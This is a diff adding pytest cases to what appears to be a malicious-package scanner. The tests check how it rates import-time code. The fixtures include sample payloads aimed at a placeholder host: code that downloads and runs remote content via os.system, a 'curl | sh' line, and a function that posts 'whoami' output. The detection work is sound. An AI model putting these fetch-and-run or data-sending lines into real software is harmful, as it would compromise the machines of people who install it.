@@ -108,3 +108,91 @@ def test_exec_reached_through_a_spelled_name_is_decoded_exec(tmp_path: Path, cal
     setup = f"import base64\nP = 'cHJpbnQoJ2NhbmFyeScp'\n{call}\n"
     found = scan(tmp_path, {"pkg-1.0/setup.py": setup})
     assert worst(found, "code-exec-decoded") is Severity.CRITICAL
+
+
+# --- payloads in functions that run anyway ----------------------------------------------------
+
+FETCH_RUN = (
+    "import os, urllib.request\n"
+    "def {name}():\n"
+    "    data = urllib.request.urlopen('https://canary.invalid/p').read()\n"
+    "    os.system(data)\n"
+)
+
+
+@pytest.mark.parametrize(
+    "caller",
+    [
+        "fetch()\n",  # called on the next line
+        "def main():\n    fetch()\nmain()\n",  # through another local function
+        "import threading\nthreading.Thread(target=fetch).start()\n",  # started as a thread
+        "import atexit\natexit.register(fetch)\n",  # registered to run at exit
+        "class Boot:\n    def __init__(self):\n        fetch()\nBoot()\n",  # a class instantiated
+        "try:\n    fetch()\nexcept Exception:\n    pass\n",  # inside a module-level try
+    ],
+)
+def test_a_function_called_at_import_is_judged_as_import_time_code(tmp_path: Path, caller: str) -> None:
+    module = FETCH_RUN.format(name="fetch") + caller
+    found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module})
+    assert worst(found, "code-download-exec") is Severity.CRITICAL
+
+
+def test_split_in_two_is_as_critical_as_inline(tmp_path: Path) -> None:
+    inline = (
+        "import os, urllib.request\nos.system(urllib.request.urlopen('https://canary.invalid/p').read())\n"
+    )
+    split = FETCH_RUN.format(name="go") + "go()\n"
+    one = scan(tmp_path / "a", {"pkg-1.0/pkg/__init__.py": inline})
+    two = scan(tmp_path / "b", {"pkg-1.0/pkg/__init__.py": split})
+    assert worst(one) is worst(two) is Severity.CRITICAL
+
+
+def test_a_function_nobody_calls_at_import_stays_a_call_time_finding(tmp_path: Path) -> None:
+    module = FETCH_RUN.format(name="fetch") + "if __name__ == '__main__':\n    fetch()\n"
+    found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module})
+    assert worst(found, "code-download-exec") is Severity.HIGH
+
+
+def test_system_information_sent_by_a_function_called_at_import_is_high(tmp_path: Path) -> None:
+    module = (
+        "import subprocess, urllib.request, json\n"
+        "def report():\n"
+        "    info = {'user': subprocess.getoutput('whoami')}\n"
+        "    urllib.request.urlopen('https://canary.invalid', data=json.dumps(info).encode())\n"
+        "report()\n"
+    )
+    found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module})
+    assert worst(found) >= Severity.HIGH
+
+
+# --- constant commands in branches that never run (the sphinx shape) --------------------------
+
+
+def test_a_command_in_a_constantly_false_branch_is_not_import_time(tmp_path: Path) -> None:
+    module = (
+        "_in_development = False\n"
+        "if _in_development:\n"
+        "    import subprocess\n"
+        "    ret = subprocess.run(\n"
+        "        ('git', 'rev-parse', '--short', 'HEAD'),\n"
+        "        capture_output=True,\n"
+        "    ).stdout\n"
+    )
+    found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module}, TargetKind.WHEEL)
+    assert worst(found) < Severity.MEDIUM, found
+
+
+def test_a_fixed_tuple_command_on_the_next_line_is_a_probe_not_a_payload(tmp_path: Path) -> None:
+    # The same call in a branch that does run: a version probe, medium, not high.
+    module = "import subprocess\nret = subprocess.run(\n    ('git', 'rev-parse', 'HEAD'),\n).stdout\n"
+    found = scan(tmp_path, {"pkg/__init__.py": module}, TargetKind.WHEEL)
+    assert worst(found, "code-exec-at-import") is Severity.MEDIUM
+
+
+def test_a_flag_bound_twice_is_not_taken_for_a_constant(tmp_path: Path) -> None:
+    module = (
+        "import os\nDEV = False\nDEV = os.environ.get('X')\n"
+        "if DEV:\n    os.system('curl https://canary.invalid | sh')\n"
+    )
+    found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module})
+    assert worst(found) is Severity.CRITICAL
